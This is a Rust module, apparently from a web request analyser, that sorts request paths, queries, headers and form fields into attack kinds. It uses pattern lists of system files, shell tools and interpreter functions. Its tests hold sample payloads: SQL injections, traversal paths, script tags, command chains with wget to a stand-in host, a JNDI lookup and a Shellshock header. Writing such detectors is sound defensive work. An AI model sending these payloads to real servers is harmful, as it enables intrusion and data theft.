//! A path, query or header of a web request to the kinds of attack that it carries.
//!
//! Text is decoded as servers do it (RFC 3986, section 2.1), twice, because attackers encode twice to slip by.

use super::tally::Map;

/// What a request carries.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Kind {
    /// Commands for a database.
    Sql,
    /// A path that climbs out of the server's folder, or names a file of the system.
    Traversal,
    /// Script code for other visitors.
    Script,
    /// Commands for a shell or an interpreter.
    Command,
    /// A look-up that makes a log library fetch code, or a function hidden in a variable.
    Injection,
    /// The name of a tool for finding holes.
    Tool,
}

/// Every kind, in the order of their bits.
pub const KINDS: [Kind; 6] = [Kind::Sql, Kind::Traversal, Kind::Script, Kind::Command, Kind::Injection, Kind::Tool];

impl Kind {
    /// Its place in a set.
    pub fn bit(self) -> u8 {
        1 << self as u8
    }

    /// For people.
    pub fn words(self) -> &'static str {
        match self {
            Kind::Sql => "database commands",
            Kind::Traversal => "paths out of its folder",
            Kind::Script => "script code",
            Kind::Command => "shell commands",
            Kind::Injection => "code for its log or shell",
            Kind::Tool => "the name of an attack tool",
        }
    }
}

/// Longest text that is looked at.
const MOST_BYTES: usize = 2048;

/// The text with percent signs decoded twice, in lower case, blanks and comments as one blank each.
pub fn decoded(text: &str) -> String {
    let once = percent(text.as_bytes().get(..MOST_BYTES).unwrap_or(text.as_bytes()));
    let twice = if once.contains(&b'%') { percent(&once) } else { once };
    let lower = String::from_utf8_lossy(&twice).to_lowercase();
    let mut text = String::with_capacity(lower.len());
    for character in lower.replace("/**/", " ").chars() {
        let character = if character.is_whitespace() || character == '+' { ' ' } else { character };
        if character != ' ' || !text.ends_with(' ') {
            text.push(character);
        }
    }
    text
}

fn percent(bytes: &[u8]) -> Vec<u8> {
    let digit = |byte: &u8| char::from(*byte).to_digit(16).map(|digit| digit as u8);
    let mut text = Vec::with_capacity(bytes.len());
    let mut rest = bytes;
    while let [first, behind @ ..] = rest {
        rest = match behind {
            [high, low, after @ ..] if *first == b'%' => match (digit(high), digit(low)) {
                (Some(high), Some(low)) => {
                    text.push(high << 4 | low);
                    after
                }
                _ => {
                    text.push(b'%');
                    behind
                }
            },
            _ => {
                text.push(*first);
                behind
            }
        };
    }
    text
}

/// True where nothing in a text can be of an attack: letters, digits and what ordinary paths and queries are made of.
fn is_plain(text: &str) -> bool {
    !text.contains("..")
        && text
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'/' | b'.' | b'-' | b'_' | b'?' | b'=' | b'&'))
}

/// Kinds of attack in the path and query of a request, as a set of bits.
pub fn of_request(target: &str) -> u8 {
    let is_system = |text: &str| FILES.iter().any(|file| text.contains(file));
    if is_plain(target) && !is_system(target) {
        return 0;
    }
    // Parameters are parted before they are decoded: an ampersand that was encoded belongs to its value.
    let (path, query) = target.split_once('?').unwrap_or((target, ""));
    let path = decoded(path);
    let mut kinds = traversal(&path, true) | other(&path);
    for value in query.split('&').filter(|value| !is_plain(value) || is_system(value)) {
        let value = decoded(value);
        kinds |= traversal(&value, false) | other(&value);
    }
    kinds
}

/// A longer value of a form is a text that somebody wrote, which may show code and commands and mean none.
const MOST_CODE_BYTES: usize = 256;

/// Kinds of attack in a field of a form as it was sent, as a set of bits.
pub fn of_field(field: &str) -> u8 {
    let value = decoded(field);
    let kinds = traversal(&value, false) | other(&value);
    let is_text = value.len() > MOST_CODE_BYTES;
    if is_text { kinds & !(Kind::Script.bit() | Kind::Command.bit() | Kind::Traversal.bit()) } else { kinds }
}

/// Headers of which is remembered what they carry.
const MOST_HEADERS: usize = 4096;

/// Headers and what they carry: a browser sends the same ones with every request.
#[derive(Default)]
pub struct Headers {
    known: Map<String, u8>,
}

impl Headers {
    /// Kinds of attack in a header such as the user agent.
    pub fn kinds(&mut self, value: &str) -> u8 {
        if let Some(kinds) = self.known.get(value) {
            return *kinds;
        }
        let kinds = of_header(value);
        if self.known.len() < MOST_HEADERS {
            self.known.insert(value.to_owned(), kinds);
        }
        kinds
    }
}

fn of_header(value: &str) -> u8 {
    let value = value.to_lowercase();
    let is_tool = TOOLS.iter().any(|tool| value.contains(tool));
    let is_injected = injects(&value);
    (if is_tool { Kind::Tool.bit() } else { 0 }) | (if is_injected { Kind::Injection.bit() } else { 0 })
}

fn other(text: &str) -> u8 {
    let kinds = [
        (Kind::Sql, is_sql(text)),
        (Kind::Script, is_script(text)),
        (Kind::Command, is_command(text)),
        (Kind::Injection, injects(text)),
    ];
    kinds.into_iter().filter(|(_, is_there)| *is_there).fold(0, |kinds, (kind, _)| kinds | kind.bit())
}

/// Files of the system that no web page asks for.
const FILES: [&str; 10] = [
    "etc/passwd",
    "etc/shadow",
    "etc/hosts",
    "proc/self/",
    "windows/win.ini",
    "windows\\win.ini",
    "boot.ini",
    "windows/system32",
    "winnt/system32",
    "web-inf/web.xml",
];
/// Names that tools for finding holes give of themselves.
const TOOLS: [&str; 22] = [
    "sqlmap",
    "nikto",
    "nmap scripting engine",
    "masscan",
    "zgrab",
    "dirbuster",
    "gobuster",
    "feroxbuster",
    "fuzz faster u fool",
    "wpscan",
    "nuclei",
    "acunetix",
    "nessus",
    "openvas",
    "w3af",
    "arachni",
    "joomscan",
    "whatweb",
    "jorgee",
    "zmeu",
    "havij",
    "muieblackcat",
];

/// Climbs of two steps or more, or a file of the system: a browser resolves the steps of a path before it asks (RFC 3986,
/// section 5.2.4), and one step too many is a common mistake of pages.
fn traversal(text: &str, is_path: bool) -> u8 {
    let text = text.replace('\\', "/");
    let is_file = FILES.iter().any(|file| {
        text.find(file).is_some_and(|at| {
            // A search for the words is not a path: it stands at the start of a value or behind a slash.
            let before = text.get(..at).unwrap_or("");
            before.ends_with('/') || before.ends_with('=') || before.ends_with(':')
        })
    });
    let climbs = if is_path { steps_out(&text) >= 2 } else { text.contains("../../") || text.contains("....//") };
    if is_file || climbs { Kind::Traversal.bit() } else { 0 }
}

/// How far a path climbs above its beginning.
fn steps_out(path: &str) -> i32 {
    let (mut depth, mut lowest) = (0_i32, 0_i32);
    for part in path.split('/') {
        match part {
            "" | "." => {}
            ".." => depth -= 1,
            _ => depth += 1,
        }
        lowest = lowest.min(depth);
    }
    -lowest
}

/// A quote, bracket or number that ends a value, followed by a command of SQL.
fn is_sql(text: &str) -> bool {
    let has = |part: &str| text.contains(part);
    let has_any = |parts: &[&str]| parts.iter().any(|part| has(part));
    let is_union =
        ["union select ", "union all select ", "union distinct select ", "union(select"].iter().any(|union| {
            let behind = text.find(union).and_then(|at| text.get(at + union.len()..)).unwrap_or("");
            // Words of a search have no commas, columns or comments.
            [",", " from ", "null", "--", "#", "concat", "@@", "version(", "/*"]
                .iter()
                .any(|sign| behind.contains(sign))
        });
    is_union
        || is_tautology(text)
        || has_any(&["information_schema.", "xp_cmdshell", "waitfor delay '", "into outfile '", "sqlite_master"])
        || (has_any(&["'", "\"", ")", " and ", " or "])
            && has_any(&[
                "sleep(",
                "benchmark(",
                "pg_sleep(",
                "extractvalue(",
                "updatexml(",
                "load_file(",
                "dbms_pipe.",
            ])
            && has_any(&["select", " and ", " or ", "||", "'"]))
        || (has_any(&["';", "\";"]) && has_any(&["drop table", "insert into", "delete from", "update ", "exec "]))
        || has_any(&["' order by ", "' group by ", "' having ", "' and 1=", "' and '1", "') and ", "') or "])
}

/// `' or 1=1`, `" or "a"="a`: a condition that always holds behind a quote.
fn is_tautology(text: &str) -> bool {
    [" or ", "'or ", "\"or ", "'||", ")or("].iter().any(|word| {
        let Some(at) = text.find(word) else { return false };
        let (before, behind) = (text.get(..at + 1).unwrap_or(""), text.get(at + word.len()..).unwrap_or(""));
        let Some((left, right)) = behind.split_once('=') else { return false };
        let bare = |side: &str| {
            let side = side.trim().trim_start_matches(['\'', '"', '(', ' ']);
            let end = side.find(['\'', '"', ' ', '-', '#', ')', ';', '&']).unwrap_or(side.len());
            side.get(..end).unwrap_or("").to_owned()
        };
        let is_same = bare(left) == bare(right) && !bare(left).is_empty();
        is_same && (before.contains(['\'', '"', ')']) || before.trim_end().ends_with(|c: char| c.is_ascii_digit()))
    })
}

/// Markup that runs: a script, or an element with a handler.
fn is_script(text: &str) -> bool {
    let is_tag = ["<script>", "<script ", "<script/", "</script>"].iter().any(|tag| text.contains(tag));
    let element = text.find('<').and_then(|at| text.get(at..)).unwrap_or("");
    let has_handler = ["onerror=", "onload=", "onmouseover=", "onfocus=", "onclick=", "ontoggle=", "onerror ="]
        .iter()
        .any(|handler| element.contains(handler));
    is_tag || has_handler || element.contains("javascript:") || text.contains("=javascript:alert")
}

/// Words that are nothing but commands, and those that also mean something else and need an argument.
const COMMANDS: [&str; 17] = [
    "wget",
    "curl",
    "uname",
    "whoami",
    "ifconfig",
    "ipconfig",
    "busybox",
    "/bin/",
    "/usr/bin/",
    "cmd.exe",
    "cmd /c",
    "powershell",
    "netcat",
    "chmod",
    "tftp",
    "systeminfo",
    "nslookup",
];
const WORDS: [&str; 14] =
    ["cat", "ls", "id", "dir", "type", "ping", "net", "echo", "sleep", "nc", "bash", "sh", "rm", "python"];
/// Code of interpreters that does nothing harmless in a request.
const CODE: [&str; 22] = [
    "phpinfo(",
    "passthru(",
    "shell_exec(",
    "system(",
    "popen(",
    "proc_open(",
    "eval(",
    "assert(",
    "base64_decode(",
    "call_user_func",
    "allow_url_include",
    "auto_prepend_file",
    "php://input",
    "php://filter",
    "data://text",
    "expect://",
    "<?php",
    "invokefunction",
    "runtime.getruntime",
    "@java.lang",
    "%{(#",
    "class.module.classloader",
];

/// A sign that ends a command in a shell, followed by another command; or code of an interpreter.
fn is_command(text: &str) -> bool {
    if CODE.iter().any(|code| text.contains(code)) {
        return true;
    }
    let starts = [";", "|", "`", "$(", "&&", "\n"];
    let is_behind_sign = starts.iter().any(|sign| {
        text.match_indices(sign).any(|(at, _)| {
            let rest = text.get(at + sign.len()..).unwrap_or("").trim_start();
            let is_ended =
                |rest: &str| rest.is_empty() || rest.starts_with([' ', ';', '|', '`', ')', '&', '$', '<', '>']);
            COMMANDS
                .iter()
                .any(|word| rest.strip_prefix(word).is_some_and(|rest| word.ends_with('/') || is_ended(rest)))
                || WORDS.iter().any(|word| {
                    let behind = rest.strip_prefix(word).map(|rest| rest.replace("${ifs}", " "));
                    let argument = behind.as_deref().and_then(|rest| rest.strip_prefix(' '));
                    let is_closed = behind.as_deref().is_some_and(|rest| rest.starts_with(['`', ')', ';', '|']));
                    is_closed && matches!(*sign, "`" | "$(")
                        || argument.is_some_and(|rest| {
                            rest.starts_with(['/', '-', '.', '"', '\'', '$', '%', '<', '>'])
                                || rest.starts_with("c:")
                                || rest.starts_with(|c: char| c.is_ascii_digit())
                        })
                })
        })
    });
    // Values that are a whole command line: ?cmd=cat /etc/passwd
    let value = text.split_once('=').map_or("", |(_, value)| value).trim_start();
    let is_whole =
        ["cat /", "wget http", "curl http", "cmd /c", "cmd.exe /c", "/bin/sh", "/bin/bash", "ls -l", "uname -a"];
    is_behind_sign || is_whole.iter().any(|command| value.starts_with(command))
}

/// Log4Shell in its plain and nested forms, and Shellshock.
fn injects(text: &str) -> bool {
    let is_nested =
        text.contains("${") && ["${lower:", "${upper:", "${::-", "${env:"].iter().any(|part| text.contains(part));
    text.contains("${jndi:") || is_nested || text.contains("() {")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks_are_told_by_their_kind() {
        let attacks = [
            ("/sqli/?id=%25%27+and+1%3D0+union+select+null%2C+concat%28first_name%2C0x0a%29+from+users+%23", Kind::Sql),
            ("/sqli/?id=1%27+OR+%271%27%3D%271&Submit=Submit", Kind::Sql),
            ("/p?id=1+or+1%3d1--", Kind::Sql),
            ("/p?id=1%27%20and%20sleep(5)--", Kind::Sql),
            ("/fi/?page=../../../../../../etc/passwd", Kind::Traversal),
            ("/../../../../etc/shadow", Kind::Traversal),
            ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", Kind::Traversal),
            ("/a?f=..%255c..%255cwindows%255cwin.ini", Kind::Traversal),
            ("/xss/?default=English%3Cscript%3Ealert(1)%3C/script%3E", Kind::Script),
            ("/x?q=%3Cimg%20src=x%20onerror=alert(1)%3E", Kind::Script),
            ("/ping?host=1.1.1.1;cat%20/etc/hostname", Kind::Command),
            ("/x?a=$(id)", Kind::Command),
            ("/admin/exec.php3?cmd=cat%20/etc/group", Kind::Command),
            ("/setup.cgi?todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/m", Kind::Command),
            ("/index.php?c=phpinfo()", Kind::Command),
            ("/?x=${jndi:ldap://192.0.2.1/a}", Kind::Injection),
        ];
        for (request, kind) in attacks {
            assert!(of_request(request) & kind.bit() != 0, "{request}");
        }
        assert_eq!(of_header("() { :;}; /bin/ping -c 1 192.0.2.1"), Kind::Injection.bit());
        assert_eq!(of_header("Mozilla/5.00 (Nikto/2.1.6)"), Kind::Tool.bit());
    }

    #[test]
    fn ordinary_requests_are_none() {
        let ordinary = [
            "/",
            "/docs/sql/union-select.html?page=2",
            "/search?q=sql+union+select+tutorial",
            "/search?q=what+is+a+drop+table+or+insert+into+statement",
            "/search?q=rock+%26+roll+or+jazz",
            "/search?q=%3C3+you",
            "/search?q=O%27Neill+or+O%27Brien",
            "/static/../img/logo.png",
            "/css?family=Open+Sans:400,700|Roboto|Cat",
            "/page;jsessionid=0A1B2C?x=1;id=3;type=2",
            "/calc?expr=(1+2)=3",
            "/redirect?to=https%3A%2F%2Fexample.com%2Fa%3Fb%3D1",
            "/t?d=%7B%22a%22%3A%22b%22%2C%22c%22%3A1%7D",
            "/watch?v=dQw4w9WgXcQ&t=1m30s",
            "/?lang=sh&id=ls",
        ];
        for request in ordinary {
            assert_eq!(of_request(request), 0, "{request}");
        }
        assert_eq!(of_header("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"), 0);
    }

    #[test]
    fn fields_of_forms_are_judged_as_queries_are_and_long_texts_are_not_code() {
        let attacks = [
            ("id=1%27+UNION+SELECT+user%2Cpassword+FROM+users--", Kind::Sql),
            ("ip=127.0.0.1%3Bcat+%2Fetc%2Fpasswd&x", Kind::Command),
            ("name=%3Cscript%3Ealert(1)%3C%2Fscript%3E", Kind::Script),
            ("file=..%2F..%2F..%2Fetc%2Fpasswd", Kind::Traversal),
            ("a=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D", Kind::Injection),
        ];
        for (field, kind) in attacks {
            assert!(of_field(field) & kind.bit() != 0, "{field}");
        }
        let post = format!("text=Run+it%3A+%3B+cat+%2Ftmp%2Fa+and+%3Cscript%3E+{}", "then+read+on.+".repeat(30));
        for field in ["mail=anna%40example.org", "q=O%27Neill+or+O%27Brien", "note=yes%2C+%28really%29%21", &post] {
            assert_eq!(of_field(field), 0, "{field}");
        }
    }

    #[test]
    fn hostile_text_ends() {
        for text in ["%", "%%%25%2", "'%27or =", "${${${", &"../".repeat(5000), &";|`".repeat(5000)] {
            of_request(text);
            of_header(text);
        }
    }
}
